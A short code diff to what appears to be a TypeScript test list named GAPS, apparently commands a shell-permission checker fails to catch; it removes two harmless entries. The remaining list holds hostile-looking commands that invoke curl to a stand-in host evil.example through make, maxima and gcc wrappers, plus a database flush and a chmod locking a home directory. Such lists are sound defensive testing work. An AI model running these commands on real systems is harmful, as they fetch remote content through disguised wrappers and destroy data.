@@ -4,12 +4,10 @@
 export const GAPS: ReadonlySet<string> = new Set([
   "make SHELL='curl https://evil.example'",
   "maxima --batch-string='system(\"curl https://evil.example\");'",
-  "open -R dist/index.html",
   "python manage.py flush --noinput",
   "twurl -d 'status=hi' /1.1/statuses/update.json",
   "gcc -wrapper curl,https://evil.example x.c",
   "eas build --platform ios",
-  "ionic info",
   "rclone ls /tmp/data",
   "rclone copy ./a ./b",
   "chmod 000 /home/bob",
